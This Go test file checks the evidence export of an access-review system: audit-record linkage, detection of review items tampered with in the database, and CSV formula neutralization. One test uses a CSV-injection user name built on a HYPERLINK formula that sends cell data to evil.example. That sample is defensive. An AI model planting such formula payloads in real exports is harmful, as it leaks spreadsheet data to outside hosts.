package governance_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/shiftgate/shiftgate/hub/governance"
	"github.com/shiftgate/shiftgate/hub/lifecycle"
	"github.com/shiftgate/shiftgate/hub/store"
)

// evidenceRows is ev's items by "userName kind entitlement".
func evidenceRows(ev governance.Evidence) map[string]governance.EvidenceItem {
	out := map[string]governance.EvidenceItem{}
	for _, it := range ev.Items {
		out[it.User+" "+it.Kind+" "+it.Entitlement] = it
	}
	return out
}

// auditRecord returns the audit record seq.
func (e *env) auditRecord(seq int64) store.AuditRecord {
	e.t.Helper()
	recs, err := e.st.ListAudit(context.Background(), store.AuditQuery{AfterSeq: seq - 1, Limit: 1})
	if err != nil || len(recs) != 1 || recs[0].Seq != seq {
		e.t.Fatalf("audit record %d: %+v %v", seq, recs, err)
	}
	return recs[0]
}

// TestEvidence: the evidence of a campaign says per item who held what,
// who reviewed it, what was decided by whom, when and on whose behalf,
// what came of it (kept, revoked, already gone) and when it was
// escalated from whom; each decided row names the review.decide record
// of that very item (seq and hash); the totals add up.
func TestEvidence(t *testing.T) {
	e := newEnv(t, t0)
	ctx := context.Background()
	sun := e.user("sun", []string{"north"}, nil) // north's supervisor
	e.group("Supervisor", sun.ID)
	mia := e.user("mia", nil, nil) // a manager
	nia := e.user("nia", []string{"north"}, nil)
	ben := e.user("ben", []string{"north"}, func(u *store.User) { u.Document = enterprise(mia.ID, "") })
	lea := e.user("lea", []string{"north"}, nil)
	e.group("Nurse", nia.ID, ben.ID, lea.ID)

	c, err := e.gov.StartCampaign(ctx, actor, governance.CampaignRequest{Name: "Q1 north", Due: t0.Add(48 * time.Hour), Scope: store.ReviewScope{Sites: []string{"north"}}})
	if err != nil {
		t.Fatal(err)
	}
	items := map[string]governance.ItemView{}
	for _, it := range c.Items {
		items[it.User+" "+it.Kind+" "+it.Entitlement] = it
	}
	console := governance.Decider{Actor: lifecycle.Actor{Name: "console:sun", System: "console"}, UserID: sun.ID}
	e.at(t0.Add(time.Hour))
	// sun, the reviewer, keeps nia's role; a token revokes nia's site for sun.
	if _, err := e.gov.Decide(ctx, console, items["nia role Nurse"].ID, "keep", "still on the ward, see =HR"); err != nil {
		t.Fatal(err)
	}
	if _, err := e.gov.Decide(ctx, decider, items["nia site north"].ID, "revoke", ""); err != nil {
		t.Fatal(err)
	}
	// lea leaves before her role is reviewed: the revoke finds it gone.
	e.update(lea.ID, func(u *store.User) { u.Active = false })
	if _, err := e.gov.Decide(ctx, decider, items["lea role Nurse"].ID, "revoke", "left in March"); err != nil {
		t.Fatal(err)
	}
	// Past due, ben's items (mia's, who has no manager) go to the admins.
	e.at(t0.Add(72 * time.Hour))
	if _, err := e.gov.Escalate(ctx, actor); err != nil {
		t.Fatal(err)
	}

	ev, err := e.gov.Evidence(ctx, c.ID)
	if err != nil {
		t.Fatal(err)
	}
	if ev.Campaign.ID != c.ID || ev.Campaign.Name != "Q1 north" || ev.Campaign.ScopeText != "sites north" || !ev.Campaign.Started.Equal(t0) ||
		!ev.Campaign.Due.Equal(t0.Add(48*time.Hour)) || ev.Campaign.StartedBy != actor.Name || ev.Campaign.Completed != nil {
		t.Errorf("campaign = %+v", ev.Campaign)
	}
	if ev.Campaign.AuditSeq == 0 || e.auditRecord(ev.Campaign.AuditSeq).Action != "review.start" {
		t.Errorf("campaign audit_seq %d is not its review.start record", ev.Campaign.AuditSeq)
	}
	rows := evidenceRows(ev)
	hour := t0.Add(time.Hour)
	want := map[string]governance.EvidenceItem{
		"nia role Nurse": {UserID: nia.ID, User: "nia", Kind: "role", Entitlement: "Nurse", ReviewerID: sun.ID, Reviewer: "sun", ReviewerKind: "supervisor",
			Decision: "keep", DecidedBy: "console:sun", DecidedAt: &hour, Comment: "still on the ward, see =HR", Outcome: "kept", AuditCheck: "recorded"},
		"nia site north": {UserID: nia.ID, User: "nia", Kind: "site", Entitlement: "north", ReviewerID: sun.ID, Reviewer: "sun", ReviewerKind: "supervisor",
			Decision: "revoke", DecidedBy: actor.Name, DecidedAt: &hour, OnBehalfOf: "sun", Outcome: "revoked", AuditCheck: "recorded"},
		"lea role Nurse": {UserID: lea.ID, User: "lea", Kind: "role", Entitlement: "Nurse", ReviewerID: sun.ID, Reviewer: "sun", ReviewerKind: "supervisor",
			Decision: "revoke", DecidedBy: actor.Name, DecidedAt: &hour, OnBehalfOf: "sun", Comment: "left in March", Outcome: "already gone", AuditCheck: "recorded"},
		"ben role Nurse": {UserID: ben.ID, User: "ben", Kind: "role", Entitlement: "Nurse", Reviewer: "admins", ReviewerKind: "admins",
			Decision: "pending", EscalatedFrom: "mia", EscalatedAt: ptr(t0.Add(72 * time.Hour))},
	}
	for key, w := range want {
		got, ok := rows[key]
		if !ok {
			t.Errorf("no row %s", key)
			continue
		}
		// The item's own ID, its detail and its audit record are checked below.
		w.ID, w.EntitlementDetail, w.AuditSeq, w.AuditHash = got.ID, got.EntitlementDetail, got.AuditSeq, got.AuditHash
		if d := gocmp.Diff(w, got); d != "" {
			t.Errorf("row %s (-want +got):\n%s", key, d)
		}
	}

	// Each decided row points at the review.decide record of its item.
	for key, row := range rows {
		if row.Decision == "pending" {
			if row.AuditSeq != 0 || row.AuditCheck != "" {
				t.Errorf("pending %s names audit record %d (%s)", key, row.AuditSeq, row.AuditCheck)
			}
			continue
		}
		rec := e.auditRecord(row.AuditSeq)
		var detail struct{ Campaign, Item, Decision string }
		if err := json.Unmarshal(rec.Detail, &detail); err != nil {
			t.Fatal(err)
		}
		if rec.Action != "review.decide" || detail.Item != row.ID || detail.Campaign != c.ID || detail.Decision != row.Decision ||
			rec.Subject != "user:"+row.UserID || row.AuditHash != hex.EncodeToString(rec.Hash) {
			t.Errorf("%s: audit_seq %d is %s %s %s, want the review.decide record of item %s (hash %s)", key, row.AuditSeq, rec.Action, rec.Subject, rec.Detail, row.ID, row.AuditHash)
		}
	}

	wantTotals := governance.EvidenceTotals{Items: len(c.Items), Decided: 3, DecidedOnTime: 3, Kept: 1, Revoked: 1, Gone: 1,
		Pending: len(c.Items) - 3, Escalated: len(c.Items) - 3}
	rate := 3 / float64(len(c.Items))
	wantTotals.CompletionRate = &rate
	if d := gocmp.Diff(wantTotals, ev.Totals); d != "" {
		t.Errorf("totals (-want +got):\n%s", d)
	}
	head, hash, _ := e.st.AuditHead(ctx)
	if ev.AuditHead != fmtAnchor(head, hash) {
		t.Errorf("audit head %s, want %s", ev.AuditHead, fmtAnchor(head, hash))
	}

	// The CSV is the same rows under EvidenceColumns.
	var out bytes.Buffer
	if err := governance.WriteEvidenceCSV(&out, ev); err != nil {
		t.Fatal(err)
	}
	table, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(table) != len(ev.Items)+1 || strings.Join(table[0], ",") != strings.Join(governance.EvidenceColumns, ",") {
		t.Fatalf("CSV header %v and %d rows, want %v and %d", table[0], len(table)-1, governance.EvidenceColumns, len(ev.Items))
	}
	col := map[string]int{}
	for i, name := range table[0] {
		col[name] = i
	}
	for _, r := range table[1:] {
		if r[col["item_id"]] != rows["nia site north"].ID {
			continue
		}
		for name, v := range map[string]string{"campaign_id": c.ID, "campaign_name": "Q1 north", "scope": "sites north",
			"started": "2026-01-05T08:00:00Z", "due": "2026-01-07T08:00:00Z", "user": "nia", "decision": "revoke",
			"decided_at": "2026-01-05T09:00:00Z", "on_behalf_of": "sun", "outcome": "revoked", "audit_check": "recorded",
			"audit_seq": itoa(rows["nia site north"].AuditSeq), "audit_hash": rows["nia site north"].AuditHash} {
			if r[col[name]] != v {
				t.Errorf("CSV %s = %q, want %q", name, r[col[name]], v)
			}
		}
	}

	if _, err := e.gov.Evidence(ctx, "no-such-campaign"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("evidence of no campaign: %v, want ErrNotFound", err)
	}
}

// TestEvidenceCatchesEditedItems: the review items are ordinary rows; one
// edited in the database after its decision (the decision turned round,
// the decision time moved, a decision made up without a record, a
// decision undone) no longer matches the hash-chained review.decide
// record, and the row says so.
func TestEvidenceCatchesEditedItems(t *testing.T) {
	e := newEnv(t, t0)
	ctx := context.Background()
	for _, n := range []string{"ana", "bo", "cy", "di", "ed"} {
		e.user(n, []string{"north"}, nil)
	}
	items := e.itemsOf("all")
	e.at(t0.Add(time.Hour))
	for _, n := range []string{"ana", "bo", "cy", "ed"} {
		if _, err := e.gov.Decide(ctx, decider, items[n+" site north"].ID, "keep", ""); err != nil {
			t.Fatal(err)
		}
	}
	edit := func(name string, fn func(*store.ReviewItem)) {
		t.Helper()
		if _, err := e.st.UpdateReviewItem(ctx, items[name+" site north"].ID, func(it store.ReviewItem) (store.ReviewItem, error) {
			fn(&it)
			return it, nil
		}); err != nil {
			t.Fatal(err)
		}
	}
	edit("bo", func(it *store.ReviewItem) { it.Decision, it.Outcome = store.ReviewRevoke, governance.OutcomeRevoked })
	edit("cy", func(it *store.ReviewItem) { it.Decided = t0.Add(-time.Hour) })
	edit("di", func(it *store.ReviewItem) {
		it.Decision, it.Decided, it.DecidedBy = store.ReviewKeep, t0.Add(time.Hour), "console:mallory"
	})
	edit("ed", func(it *store.ReviewItem) {
		it.Decision, it.Decided, it.DecidedBy = store.ReviewPending, time.Time{}, ""
	})

	ev, err := e.gov.Evidence(ctx, items["ana site north"].Campaign)
	if err != nil {
		t.Fatal(err)
	}
	rows := evidenceRows(ev)
	for name, want := range map[string]string{"ana": "recorded", "bo": "mismatch", "cy": "mismatch", "di": "missing", "ed": "mismatch"} {
		if got := rows[name+" site north"].AuditCheck; got != want {
			t.Errorf("%s: audit_check %q, want %q", name, got, want)
		}
	}
	if ev.Totals.AuditUnmatched != 4 {
		t.Errorf("audit_unmatched = %d, want 4", ev.Totals.AuditUnmatched)
	}
}

// TestEvidenceCSVNeutralizesFormulas: user names from the identity
// provider and reviewers' comments reach the evidence CSV; a cell a
// spreadsheet would run as a formula gets a leading single quote, and
// quotes, commas and line breaks survive RFC 4180 quoting.
func TestEvidenceCSVNeutralizesFormulas(t *testing.T) {
	e := newEnv(t, t0)
	ctx := context.Background()
	evil := e.user(`=HYPERLINK("https://evil.example/?"&A1,"open")`, []string{"north"}, nil)
	items := e.itemsOf("all")
	it := items[evil.UserName+" site north"]
	e.at(t0.Add(time.Hour))
	comment := "@SUM(A1:A9), \"quoted\"\nsecond line"
	if _, err := e.gov.Decide(ctx, decider, it.ID, "keep", comment); err != nil {
		t.Fatal(err)
	}
	ev, err := e.gov.Evidence(ctx, it.Campaign)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := governance.WriteEvidenceCSV(&out, ev); err != nil {
		t.Fatal(err)
	}
	table, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(table) != 2 {
		t.Fatalf("read back: %d rows, %v\n%s", len(table), err, out.String())
	}
	col := map[string]int{}
	for i, name := range table[0] {
		col[name] = i
	}
	row := table[1]
	if got, want := row[col["user"]], "'"+evil.UserName; got != want {
		t.Errorf("user cell %q, want %q", got, want)
	}
	if got, want := row[col["comment"]], "'"+comment; got != want {
		t.Errorf("comment cell %q, want %q", got, want)
	}
	if got := row[col["decided_by"]]; got != actor.Name {
		t.Errorf("decided_by %q, want %q", got, actor.Name)
	}
	for i, cell := range row {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts a formula: %q", table[0][i], cell)
		}
	}
}

func ptr(t time.Time) *time.Time { return &t }

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

func fmtAnchor(seq int64, hash []byte) string { return itoa(seq) + ":" + hex.EncodeToString(hash) }
